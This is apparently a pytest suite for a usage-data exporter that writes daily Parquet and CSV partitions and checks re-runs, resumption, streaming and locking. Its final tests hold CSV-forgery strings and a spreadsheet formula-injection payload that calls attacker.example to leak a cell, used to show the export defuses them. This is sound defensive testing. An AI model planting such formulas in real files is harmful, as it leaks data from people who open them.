"""The export's folder (decision 34) written from a stub stream of usage rows: read back
with pyarrow (each file, and the folder as a Hive-partitioned dataset), a day re-run
replaced and not duplicated, a stopped run leaving whole days and resumed, CSV too, and
the stream read as it is written, not held."""

import asyncio
import csv
import datetime
import json
import pathlib
from collections.abc import AsyncIterator, Sequence

import pyarrow.csv as pa_csv
import pyarrow.parquet as pq
import pytest

from jobarchive.core.attempts import Figures
from jobarchive.exporting import columns, layout, run
from jobarchive.exporting.files import SCHEMA
from jobarchive.exporting.run import Window
from jobarchive.reading.queries.facts import JobUsage
from jobarchive.reading.queries.preemptions import KueueFacts
from tests.support.exports import read_export

UTC = datetime.UTC
NOW = datetime.datetime(2026, 11, 10, 12, tzinfo=UTC)
NOVEMBER = Window(datetime.date(2026, 11, 1), datetime.date(2026, 11, 4))


def usage(uid: str, created: datetime.datetime, gpu_hours: float = 2.0, **changed) -> JobUsage:
    """A finished job's usage, created at ``created``."""
    started = created + datetime.timedelta(minutes=5)
    fields = {
        "job_uid": uid,
        "name": f"job-{uid}",
        "namespace": "team-a",
        "owner": "alice",
        "tenant": "",
        "queue": "research",
        "cluster": "east",
        "kind": "PyTorchJob",
        "status": "Succeeded",
        "reason": None,
        "created": created,
        "started": started,
        "finished": started + datetime.timedelta(hours=1),
        "queue_wait_s": 300.0,
        "gang_wait_s": 360.0,
        "run_s": 3600.0,
        "gpu_hours": gpu_hours / 2,
        "cpu_hours": 8.0,
        "all_gpu_hours": gpu_hours,
        "all_cpu_hours": 16.0,
        "replicas": 2,
        "gpus": 2,
        "gpu_hours_by_type": (("Master", gpu_hours / 4), ("Worker", gpu_hours * 3 / 4)),
    }
    return JobUsage(**{**fields, **changed})


def at(day: int, hour: int = 0) -> datetime.datetime:
    return datetime.datetime(2026, 11, day, hour, tzinfo=UTC)


class Stub:
    """A stream of the rows given, oldest created first, ``batch`` at a time; it remembers
    the windows asked and how many batches it gave, and fails at ``fail_at`` if given."""

    def __init__(self, rows: Sequence[JobUsage], batch: int = 2, fail_at: str | None = None):
        self.rows = sorted(rows, key=lambda row: row.created)
        self.batch = batch
        self.fail_at = fail_at
        self.asked: list[tuple[datetime.datetime, datetime.datetime]] = []
        self.given = 0
        self.closed = False

    async def __call__(
        self, since: datetime.datetime, until: datetime.datetime, now: datetime.datetime
    ) -> AsyncIterator[list[JobUsage]]:
        assert now == NOW
        self.asked.append((since, until))
        try:
            for start in range(0, len(self.rows), self.batch):
                batch = self.rows[start : start + self.batch]
                if any(row.job_uid == self.fail_at for row in batch):
                    raise ConnectionError("the database went away")
                self.given += 1
                yield batch
        finally:
            self.closed = True


def export(stub: Stub, root: pathlib.Path, window: Window = NOVEMBER, **options) -> run.Exported:
    return asyncio.run(run.export(stub, root, window, now=NOW, **options))


def hive(root: pathlib.Path, format: str = "parquet") -> list[dict]:
    """The folder's rows, by job uid."""
    return [row for _, row in sorted(read_export(root, format).items())]


def test_each_job_is_a_row_of_its_creation_day_read_back_with_pyarrow(tmp_path):
    rows = [
        usage("early", at(1, 0)),
        usage("late", at(1, 23), status="Failed", reason="OOMKilled", gpu_hours=5.5),
        usage("running", at(3, 8), status="Running", finished=None, run_s=None),
        usage("before", at(1) - datetime.timedelta(seconds=1)),
        usage("after", at(4)),
    ]
    stub = Stub(rows)
    done = export(stub, tmp_path)
    assert done.written == NOVEMBER.days() and done.rows == 3 and done.kept == []
    assert stub.asked == [(at(1), at(4))] and stub.closed
    first = pq.read_table(tmp_path / "date=2026-11-01" / "part-0.parquet")
    assert first.schema.names == list(columns.NAMES)
    assert str(first.schema.field("created").type) == "timestamp[us, tz=UTC]"
    assert first.column("job_uid").to_pylist() == ["early", "late"]
    late = first.to_pylist()[1]
    assert late["status"] == "Failed" and late["reason"] == "OOMKilled"
    assert late["gpu_hours"] == 5.5 and late["cpu_hours"] == 16.0 and late["replicas"] == 2
    assert json.loads(late["gpu_hours_by_type"]) == {"Master": 1.375, "Worker": 4.125}
    assert late["created"] == at(1, 23) and late["exported_at"] == NOW
    # A day without jobs is a file of no rows, with the schema.
    assert pq.read_table(tmp_path / "date=2026-11-02" / "part-0.parquet").num_rows == 0
    read = hive(tmp_path)
    assert [(row["job_uid"], str(row["date"])) for row in read] == [
        ("early", "2026-11-01"),
        ("late", "2026-11-01"),
        ("running", "2026-11-03"),
    ]
    running = read[2]
    assert running["finished"] is None and running["status"] == "Running"


def test_a_day_exported_again_is_replaced_not_duplicated(tmp_path):
    export(Stub([usage("a", at(1, 1)), usage("b", at(2, 1)), usage("c", at(2, 2))]), tmp_path)
    # The job that ran is exported again with its hours since; one job was pruned.
    again = Stub([usage("a", at(1, 1), gpu_hours=9.0), usage("b", at(2, 1))])
    export(again, tmp_path, Window(datetime.date(2026, 11, 1), datetime.date(2026, 11, 3)))
    read = hive(tmp_path)
    assert [(row["job_uid"], row["gpu_hours"]) for row in read] == [("a", 9.0), ("b", 2.0)]
    for day in ("2026-11-01", "2026-11-02", "2026-11-03"):
        assert [path.name for path in (tmp_path / f"date={day}").iterdir()] == ["part-0.parquet"]


def test_a_stopped_run_leaves_whole_days_and_is_resumed(tmp_path):
    earlier = Window(datetime.date(2026, 11, 2), datetime.date(2026, 11, 4))
    export(Stub([usage("old-2", at(2, 1)), usage("old-3", at(3, 1))]), tmp_path, earlier)
    rows = [usage("a", at(1, 1)), usage("b", at(2, 1)), usage("c", at(2, 2)), usage("d", at(3))]
    with pytest.raises(ConnectionError):
        export(Stub(rows, batch=1, fail_at="c"), tmp_path)
    # Day 1 is written whole; day 2, stopped midway, is still the earlier run's, nothing
    # half-written is left, and no reader saw a half-written file meanwhile.
    assert [row["job_uid"] for row in hive(tmp_path)] == ["a", "old-2", "old-3"]
    assert not list(tmp_path.glob("*/.part-*"))
    # Resumed at the first day this run had not written: day 1 kept, the rest written.
    (tmp_path / "date=2026-11-02" / "part-0.parquet").unlink()
    resumed = Stub(rows)
    done = export(resumed, tmp_path, resume=True)
    assert done.kept == NOVEMBER.days()[:1] and done.written == NOVEMBER.days()[1:]
    assert resumed.asked == [(at(2), at(4))]
    assert [row["job_uid"] for row in hive(tmp_path)] == ["a", "b", "c", "d"]
    # Everything written: a resumed run writes nothing more.
    assert export(Stub(rows), tmp_path, resume=True).written == []


def test_a_half_written_file_of_a_killed_run_is_never_read_and_goes_at_the_next_write(tmp_path):
    export(Stub([usage("a", at(1, 1))]), tmp_path)
    leftover = layout.temporary(tmp_path, datetime.date(2026, 11, 1), "parquet")
    leftover.write_bytes(b"PAR1 half a file")
    assert [row["job_uid"] for row in hive(tmp_path)] == ["a"]
    export(Stub([usage("a", at(1, 1))]), tmp_path)
    assert not leftover.exists()


def test_csv_is_written_and_replaces_the_days_parquet(tmp_path):
    rows = [usage("a", at(1, 1), queue=None), usage("b", at(2, 1))]
    export(Stub(rows), tmp_path)
    export(Stub(rows), tmp_path, format="csv")
    assert sorted(path.name for path in tmp_path.glob("date=*/*")) == ["part-0.csv"] * 3
    table = pa_csv.read_csv(tmp_path / "date=2026-11-01" / "part-0.csv")
    assert table.column_names == list(columns.NAMES)
    [row] = table.to_pylist()
    assert row["job_uid"] == "a" and row["gpu_hours"] == 2.0 and row["queue"] is None
    assert row["created"] == at(1, 1)
    assert [row["job_uid"] for row in hive(tmp_path, "csv")] == ["a", "b"]
    # A day without jobs is its header alone.
    empty = (tmp_path / "date=2026-11-03" / "part-0.csv").read_text()
    assert empty == ",".join(f'"{name}"' for name in columns.NAMES) + "\n"


def test_the_stream_is_written_as_it_comes_not_held(tmp_path):
    # Rows of a month, 500 a batch; each day's file is in place before the stream has
    # given the next day's second batch, and no row group holds more than ROW_GROUP rows.
    second = datetime.timedelta(seconds=1)
    rows = [usage(f"j{n:05}", at(1 + n // 1000) + n * second) for n in range(3000)]
    stub = Stub(rows, batch=500)
    seen: list[tuple[datetime.date, int]] = []

    def written(day, count):
        seen.append((day, stub.given))

    done = export(stub, tmp_path, written=written, row_group=300)
    assert done.rows == 3000
    assert seen == [(day, given) for day, given in zip(NOVEMBER.days(), (3, 5, 6), strict=True)]
    metadata = pq.ParquetFile(tmp_path / "date=2026-11-01" / "part-0.parquet").metadata
    assert metadata.num_rows == 1000 and metadata.num_row_groups == 4


def test_rows_out_of_creation_order_are_refused(tmp_path):
    stub = Stub([])
    stub.rows = [usage("b", at(2, 1)), usage("a", at(1, 1))]
    with pytest.raises(run.OutOfOrder):
        export(stub, tmp_path)
    assert [row["job_uid"] for row in hive(tmp_path)] == []


def test_one_export_at_a_time_writes_a_folder(tmp_path):
    with layout.locked(tmp_path), pytest.raises(layout.Busy):
        export(Stub([usage("a", at(1, 1))]), tmp_path)
    assert not list(tmp_path.glob("date=*"))


def test_the_docs_state_the_schema_written():
    page = (pathlib.Path(__file__).parents[2] / "docs" / "usage-and-exports.md").read_text()
    section = page.split("## Exports for BI", 1)[1].split("\n## ", 1)[0]
    table = [line for line in section.splitlines() if line.startswith("| `")]
    stated = [
        tuple(cell.strip().strip("`") for cell in line.strip("|").split(" | ")) for line in table
    ]
    assert stated == [(column.name, column.type, column.meaning) for column in columns.COLUMNS]
    assert [field.name for field in SCHEMA] == [name for name, _, _ in stated]


def test_tenant_text_cannot_forge_csv_rows_or_columns(tmp_path):
    # An owner and a reason are a tenant's text: quotes, commas and line breaks in them
    # stay inside their cells, whichever CSV reader loads the file.
    forged = 'alice",1,2\n"forged-uid","x'
    reason = "OOMKilled\r\nforged,row"
    export(
        Stub([usage("a", at(1, 1), owner=forged, reason=reason, status="Failed")]),
        tmp_path,
        format="csv",
    )
    [row] = hive(tmp_path, "csv")
    assert (row["owner"], row["reason"]) == (forged, reason)
    with open(tmp_path / "date=2026-11-01" / "part-0.csv", newline="") as file:
        header, *records = list(csv.reader(file))
    assert len(records) == 1 and records[0][header.index("owner")] == forged


def test_a_spreadsheet_opening_the_csv_runs_no_formula_a_tenant_wrote(tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    rows = [usage("a", at(1, 1), owner=formula, tenant="+1", status="Failed", reason="@SUM(1)")]
    export(Stub(rows), tmp_path, format="csv")
    [row] = hive(tmp_path, "csv")
    assert (row["owner"], row["tenant"], row["reason"]) == ("'" + formula, "'+1", "'@SUM(1)")
    # Parquet keeps the value as stored: no reader runs it.
    export(Stub(rows), tmp_path)
    assert hive(tmp_path)[0]["owner"] == formula


def test_a_jobs_class_and_kueues_figures_are_columns_null_where_unknown():
    figures = Figures(
        attempts=2, preemptions=1, quota_wait_s=120.0, start_wait_s=330.0, requeue_wait_s=120.0
    )
    admitted = usage(
        "a",
        at(1, 1),
        status="Failed",
        failure_class="NCCLError",
        kueue=KueueFacts(figures, preempted_gpu_hours=4.0, evicted_gpu_hours=0.5),
    )
    row = columns.record(admitted, NOW)
    assert {name: row[name] for name in ("failure_class", *columns.KUEUE)} == {
        "failure_class": "NCCLError",
        "attempts": 2,
        "preemptions": 1,
        "preempted_gpu_hours": 4.0,
        "quota_wait_s": 120.0,
        "start_wait_s": 330.0,
        "requeue_wait_s": 120.0,
    }
    alone = columns.record(usage("b", at(1, 2)), NOW)
    assert [alone[name] for name in ("failure_class", *columns.KUEUE)] == [None] * 7
    assert list(row) == list(columns.NAMES) == list(alone)
